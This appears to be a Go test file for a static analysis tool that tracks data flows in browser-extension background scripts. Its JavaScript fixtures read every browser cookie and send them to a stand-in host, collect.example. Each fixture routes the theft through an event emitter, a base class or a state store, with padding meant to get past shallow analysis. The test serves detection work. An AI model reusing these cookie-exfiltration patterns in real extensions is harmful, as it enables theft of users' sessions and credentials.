package analysis

import (
	"strings"
	"testing"
)

// padding makes a function longer than those that are always walked through, without a word that tells anything.
var padding = strings.Repeat("var pad = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10]; pad[1] = pad[2] + pad[3] * pad[4] - pad[5]; ", 5)

func TestFlowsThroughEmittersAndStores(t *testing.T) {
	const send = `const send = (l) => fetch("https://collect.example/x", {body: JSON.stringify(l)}); `
	for name, code := range map[string]string{
		"made by a function": `function make(m) { ` + padding + ` return {all: m = m || new Map(), on: function (t, h) { var l = m.get(t); l ? l.push(h) : m.set(t, [h]) }, emit: function (t, v) { var l = m.get(t); l && l.slice().map(function (h) { h(v) }) }} }
			const bus = make(); bus.on("got", (o) => send(o.l)); chrome.cookies.getAll({}, (l) => bus.emit("got", {l}))`,
		"a base class": `function E() { this.all = {} } function put(to, type, h) { ` + padding + ` var all = to.all, old = all[type]; if (old === void 0) old = all[type] = h; else if (typeof old === "function") old = all[type] = [old, h]; else old.push(h); return to }
			E.prototype.on = function (t, h) { return put(this, t, h) }; E.prototype.emit = function emit(t) { ` + padding + ` for (var args = [], i = 1; i < arguments.length; i++) args.push(arguments[i]); var h = this.all[t]; if (h === void 0) return false; if (typeof h === "function") Reflect.apply(h, this, args); else for (var l = h.slice(), j = 0; j < l.length; ++j) Reflect.apply(l[j], this, args); return true };
			class Vault extends E { async pull() { const l = await chrome.cookies.getAll({}); this.emit("got", {l}) } }
			const v = new Vault(); v.on("got", (o) => send(o.l)); chrome.alarms.onAlarm.addListener(() => v.pull())`,
		"a store": `const create = (init) => { ` + padding + ` let state; const told = new Set(); const setState = (part) => { const next = typeof part === "function" ? part(state) : part; if (!Object.is(next, state)) { const old = state; state = Object.assign({}, state, next); told.forEach((h) => h(state, old)) } }; const getState = () => state; const subscribe = (h) => { told.add(h); return () => told.delete(h) }; const api = {setState, getState, subscribe}; state = init(setState, getState, api); return api };
			const st = create((set) => ({jar: [], add: (l) => set((s) => ({jar: [...s.jar, l]}))})); st.subscribe((s) => send(s.jar)); chrome.cookies.getAll({}, (l) => st.getState().add(l))`,
	} {
		t.Run(name, func(t *testing.T) {
			if r := background(t, "bg.js", send+code); !hasFlow(r, "cookies", "fetch", "collect.example") {
				t.Errorf("flows %+v", r.Flows)
			}
		})
	}
}
